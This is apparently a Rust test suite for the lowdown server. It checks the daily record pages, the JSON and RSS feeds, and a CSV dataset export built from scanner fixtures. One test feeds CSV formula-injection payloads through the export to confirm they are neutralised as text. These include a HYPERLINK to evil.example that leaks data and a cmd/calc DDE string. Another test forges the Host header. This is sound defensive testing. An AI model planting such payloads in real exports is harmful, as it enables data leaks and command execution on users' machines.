//! The daily record (HTML and feeds) and the dataset export, from scans on past days (a
//! shifted clock) and today against fixture servers, as a reader and a data user see them.
//! On SQLite and PostgreSQL.

use crate::common;
use crate::scanner_fixtures;
use common::day;

use common::TestDb;
use lowdown_server::scanner::run;
use scanner_fixtures::mcp::Mcp;
use scanner_fixtures::registry::{entry, streamable, Registry};
use scanner_fixtures::{closed_port, config, on_day, MapLookup};
use serde_json::Value;

/// Three scans: 40 days ago (a month earlier: two export files), yesterday and today; the
/// Registry changes a version and drops an entry between yesterday and today, and `ok`
/// changes a description today. Returns the fixtures (kept alive by the caller).
async fn scanned(t: &TestDb) -> (Mcp, Registry) {
    let mcp = Mcp::start(false).await;
    mcp.set_description("CANARY_definition_text");
    let registry = Registry::start().await;
    let refused = closed_port().await;
    let weather = streamable("io.fixture/weather", &mcp.url("ok", "weather"));
    let comma = streamable("io.fixture/comma", &mcp.url("ok", "a,b\"c"));
    let auth = streamable("io.fixture/auth", &mcp.url("auth", ""));
    let down = streamable(
        "io.fixture/down",
        &format!("http://127.0.0.1:{refused}/mcp"),
    );
    let private = streamable("io.fixture/private", "https://10.0.0.7/mcp");
    let stdio = entry("io.fixture/stdio", "0.3.0", "active", true, &[]);
    registry.set_entries(
        vec![
            weather.clone(),
            comma.clone(),
            auth.clone(),
            down.clone(),
            private.clone(),
            stdio.clone(),
        ],
        3,
    );
    let cfg = config(&registry.url, MapLookup::default());
    assert_eq!(
        run(&t.db, &on_day(&cfg, -40)).await.unwrap().status,
        "completed"
    );
    assert_eq!(
        run(&t.db, &on_day(&cfg, -1)).await.unwrap().status,
        "completed"
    );
    mcp.set_description("CANARY_definition_text, changed");
    let weather2 = entry(
        "io.fixture/weather",
        "1.1.0",
        "active",
        true,
        &[("streamable-http", &mcp.url("ok", "weather"))],
    );
    registry.set_entries(vec![weather2, comma, auth, down, private], 3);
    assert_eq!(run(&t.db, &cfg).await.unwrap().status, "completed");
    (mcp, registry)
}

const VERDICT_WORDS: [&str; 8] = [
    "healthy",
    "unhealthy",
    "dead",
    "alive",
    "score",
    "rank",
    "best",
    "worst",
];

async fn the_daily_record_counts_with_denominators(t: &TestDb) {
    let _fixtures = scanned(t).await;
    let app = t.app();
    let r = common::get(&app, &format!("/daily/{}", day(0))).await;
    assert_eq!(r.status, 200);
    assert!(r.headers["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/html"));
    let html = &r.text;
    // Five remotes: weather and comma reach level 2, auth answers 401 (level 0), down is
    // refused (conn_refused), private is blocked (apart, nothing sent).
    for expected in [
        "Observations: 5 = 4 probe attempts on 4 servers + 1 blocked URLs (nothing sent).",
        "Reached level of the 4 probe attempts: 2 (initialize and tools/list) 2, 1 (initialize only) 0, 0 2.",
        "HTTP status of the probe attempts: 200 2, 401 1, none 1.",
        "Error types of the probe attempts: conn_refused 1.",
        "Members not probed: not_listed 1.",
        "Registry declaration changes: 2 (listed 1, version 1).",
        "Tool definitions changed on 2 of 2 servers compared with their previous observation.",
        "First observed: 0 servers, 0 server versions, 0 tool schema hashes.",
    ] {
        assert!(html.contains(&expected.replace('"', "&quot;")), "missing {expected:?} in the page");
    }
    assert!(html.contains("href=\"/t/mcp:io.fixture/weather\""));
    assert!(
        html.contains(&format!("href=\"/daily/{}\"", day(-1))),
        "a link to the previous day"
    );
    let lower = html.to_lowercase();
    for w in VERDICT_WORDS {
        assert!(!lower.contains(w), "the daily record says {w:?}");
    }
    assert!(!html.contains("CANARY"));

    // The first day: everything is first observed.
    let first = common::get(&app, &format!("/daily/{}", day(-40))).await;
    assert!(
        first
            .text
            .contains("First observed: 5 servers, 2 server versions, 2 tool schema hashes."),
        "{}",
        first.text
    );
    assert!(first
        .text
        .contains("Tool definitions changed on 0 of 0 servers"));

    let latest = common::get(&app, "/daily/latest").await;
    assert_eq!(latest.status, 200);
    assert!(latest
        .text
        .contains(&format!("<h1>Daily record: {}</h1>", day(0))));
    assert_eq!(
        common::get(&app, &format!("/daily/{}", day(-2)))
            .await
            .status,
        404
    );
    assert_eq!(common::get(&app, "/daily/2026-13-01").await.status, 400);
    assert_eq!(common::get(&app, "/daily/%3Cscript%3E").await.status, 400);

    // Feeds: one item per day with a scan, newest first, stable ids, dates from the data.
    let feed = from_elsewhere(&app, "/daily/feed.json").await;
    assert_eq!(
        feed.headers["content-type"],
        "application/feed+json; charset=utf-8"
    );
    let j = &feed.json;
    assert_eq!(j["version"], "https://jsonfeed.org/version/1.1");
    assert_eq!(
        j["feed_url"], "/daily/feed.json",
        "relative without --public-url"
    );
    let ids: Vec<&str> = j["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["id"].as_str().unwrap())
        .collect();
    assert_eq!(
        ids,
        [
            format!("lowdown-daily:{}", day(0)),
            format!("lowdown-daily:{}", day(-1)),
            format!("lowdown-daily:{}", day(-40))
        ]
    );
    let item = &j["items"][0];
    assert_eq!(item["url"], format!("/daily/{}", day(0)));
    assert!(item["date_published"]
        .as_str()
        .unwrap()
        .starts_with(&day(0)));
    assert_eq!(item["_lowdown"]["observations"]["blocked"], 1);
    assert_eq!(item["_lowdown"]["observations"]["probe_attempts"], 4);
    let doc = common::get(&app, "/openapi.json").await.json;
    crate::openapi::assert_documented(&doc, "get", "/daily/feed.json", 200, j);
    let again = from_elsewhere(&app, "/daily/feed.json").await;
    assert_eq!(again.text, feed.text, "the feed depends on the data only");
    let rss = from_elsewhere(&app, "/daily/feed.xml").await;
    assert_eq!(
        rss.headers["content-type"],
        "application/rss+xml; charset=utf-8"
    );
    assert!(rss
        .text
        .starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<rss version=\"2.0\""));
    assert_eq!(rss.text.matches("<item>").count(), 3);
    assert!(rss.text.contains(&format!(
        "<guid isPermaLink=\"false\">lowdown-daily:{}</guid>",
        day(0)
    )));
    assert!(rss.text.contains("<link>/daily/latest</link>"));
    assert!(
        !rss.text.contains("evil.example") && !feed.text.contains("evil.example"),
        "a link follows the request's Host"
    );
    let public = lowdown_server::app(
        t.state()
            .with_public_url(Some("https://lowdown.example.org/".into())),
    );
    let feed = from_elsewhere(&public, "/daily/feed.json").await;
    assert_eq!(
        feed.json["feed_url"],
        "https://lowdown.example.org/daily/feed.json"
    );
    let rss = common::get(&public, "/daily/feed.xml").await;
    assert!(rss
        .text
        .contains("<link>https://lowdown.example.org/daily/latest</link>"));
    for w in VERDICT_WORDS {
        assert!(
            !rss.text.to_lowercase().contains(w) && !feed.text.to_lowercase().contains(w),
            "{w}"
        );
    }
}
on_both!(the_daily_record_counts_with_denominators);

fn read_dir(dir: &std::path::Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    for e in walk(dir) {
        out.push((
            e.strip_prefix(dir).unwrap().display().to_string(),
            std::fs::read(&e).unwrap(),
        ));
    }
    out.sort();
    out
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

/// `GET path` with another `Host`, which no link may follow.
async fn from_elsewhere(app: &axum::Router, path: &str) -> common::Resp {
    common::call(app, "GET", path, &[("host", "evil.example")], None).await
}

async fn export(t: &TestDb, out: &std::path::Path) -> Value {
    let args = [
        "export",
        "--db",
        &t.url,
        "--out",
        out.to_str().unwrap(),
        "--name",
        "lowdown-test",
    ]
    .map(str::to_owned);
    let o = common::lowdown_server(args).await;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    serde_json::from_slice(&o.stdout).unwrap()
}

async fn the_export_is_the_same_bytes_every_time(t: &TestDb) {
    let _fixtures = scanned(t).await;
    let base = std::env::temp_dir().join(format!(
        "lowdown-export-{}-{:?}",
        std::process::id(),
        t.kind
    ));
    let (a, b) = (base.join("a"), base.join("b"));
    let summary = export(t, &a).await;
    // A stale month from another database is removed; other files are left alone.
    std::fs::create_dir_all(b.join("scanner_observations")).unwrap();
    std::fs::write(b.join("scanner_observations/1999-01.csv"), "old").unwrap();
    std::fs::write(b.join("notes.txt"), "mine").unwrap();
    export(t, &b).await;
    std::fs::remove_file(b.join("notes.txt")).unwrap();
    assert_eq!(
        read_dir(&a),
        read_dir(&b),
        "two exports of one database differ"
    );
    // ... and again into the same directory.
    export(t, &a).await;
    assert_eq!(read_dir(&a), read_dir(&b));

    let months = [&day(-40)[..7], &day(-1)[..7], &day(0)[..7]];
    let files: Vec<String> = summary["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f.as_str().unwrap().to_owned())
        .collect();
    let mut expected: Vec<String> = months
        .iter()
        .map(|m| format!("scanner_observations/{m}.csv"))
        .collect();
    expected.dedup();
    assert_eq!(files, expected);
    let total: i64 = t.count("scanner_observations").await;
    assert_eq!(summary["rows"], total);
    let all: String = files
        .iter()
        .map(|f| std::fs::read_to_string(a.join(f)).unwrap())
        .collect();
    assert!(
        !all.contains("CANARY"),
        "definitions never leave the database"
    );
    assert!(!all.contains('\r'), "LF line ends");
    let first = std::fs::read_to_string(a.join(&files[0])).unwrap();
    let mut lines = first.lines();
    assert_eq!(lines.next().unwrap(), "id,scan_run_id,target_id,observed_at,remote_url,http_status,reached_level,latency_ms,error_type,tool_count,server_version,schema_hash");
    let ids: Vec<i64> = lines
        .clone()
        .map(|l| l.split(',').next().unwrap().parse().unwrap())
        .collect();
    assert!(
        ids.windows(2).all(|w| w[0] < w[1]),
        "rows in id order: {ids:?}"
    );
    // A URL with a comma and a quote is one quoted field; a null is an empty field.
    let comma = first
        .lines()
        .find(|l| l.contains("io.fixture/comma"))
        .unwrap();
    assert!(comma.contains(",\"http://127.0.0.1:"), "{comma}");
    assert!(comma.contains("/mcp/ok/a,b\"\"c\","), "{comma}");
    let down = first
        .lines()
        .find(|l| l.contains("io.fixture/down"))
        .unwrap();
    let f: Vec<&str> = down.split(',').collect();
    assert_eq!(
        (f[5], f[6], f[8], f[9], f[10], f[11]),
        ("", "0", "conn_refused", "", "", ""),
        "{down}"
    );
    assert!(f[3].ends_with('Z') && f[3].contains('T'));

    let report = std::fs::read_to_string(a.join("REPORT.md")).unwrap();
    let last_run: String = sqlx::query_scalar::<_, i64>(
        "SELECT COALESCE(finished_at, started_at) FROM scan_runs ORDER BY started_at DESC LIMIT 1",
    )
    .fetch_one(&t.check.pool)
    .await
    .map(lowdown_server::clock::iso)
    .unwrap();
    for expected in [
        "# Lowdown Scanner observations: lowdown-test".to_owned(),
        "## Scope and limits".to_owned(),
        format!("- Retrieved at: {last_run} (the latest run)"),
        format!("- Cite: Lowdown records: lowdown-test, Scanner observations, retrieved {last_run}. CC BY 4.0, https://creativecommons.org/licenses/by/4.0/"),
        "| observations | 5 |\n| probe attempts | 4 |\n| blocked URLs (nothing sent) | 1 |".to_owned(),
        "| 2 | 2 | 50.0% |".to_owned(),
        "| 401 | 1 | 25.0% |".to_owned(),
        "| conn_refused | 1 | 25.0% |".to_owned(),
        "| members not listed | 1 |".to_owned(),
    ] {
        assert!(report.contains(&expected), "REPORT.md lacks {expected:?}:\n{report}");
    }
    assert_eq!(
        report.matches(&format!("| {} | `sr_", day(0))).count(),
        1,
        "{report}"
    );
    assert_eq!(
        report
            .lines()
            .filter(|l| l.starts_with("| 20") && l.contains("`sr_"))
            .count(),
        3,
        "three runs: {report}"
    );
    let _ = std::fs::remove_dir_all(base);
}
on_both!(the_export_is_the_same_bytes_every_time);

/// A Registry entry whose remote URL is a spreadsheet formula (the reproduction: a live
/// `=HYPERLINK(…)` in the export) lands in the CSV as text.
async fn a_formula_in_a_registry_entry_stays_text_in_the_export(t: &TestDb) {
    let registry = Registry::start().await;
    let hostile = [
        "=HYPERLINK(\"https://evil.example/?leak\",\"open me\")",
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        "-2+3",
    ];
    let entries = hostile
        .iter()
        .enumerate()
        .map(|(i, url)| streamable(&format!("io.fixture/formula{i}"), url))
        .collect();
    registry.set_entries(entries, 3);
    let cfg = config(&registry.url, MapLookup::default());
    assert_eq!(run(&t.db, &cfg).await.unwrap().status, "completed");
    let out = std::env::temp_dir().join(format!(
        "lowdown-export-formula-{}-{:?}",
        std::process::id(),
        t.kind
    ));
    let summary = export(t, &out).await;
    let file = summary["files"][0].as_str().unwrap().to_owned();
    let csv = std::fs::read_to_string(out.join(file)).unwrap();
    for url in hostile {
        let cell = if url.contains([',', '"']) {
            format!("\"'{}\"", url.replace('"', "\"\""))
        } else {
            format!("'{url}")
        };
        assert!(
            csv.contains(&format!(",{cell},")),
            "{url} is not text:\n{csv}"
        );
    }
    for line in csv.lines() {
        for f in line.split(',') {
            assert!(
                !f.starts_with(['=', '@', '+', '-']) && !f.starts_with("\"="),
                "a cell a spreadsheet would run: {f} in {line}"
            );
        }
    }
    let _ = std::fs::remove_dir_all(out);
}
on_both!(a_formula_in_a_registry_entry_stays_text_in_the_export);
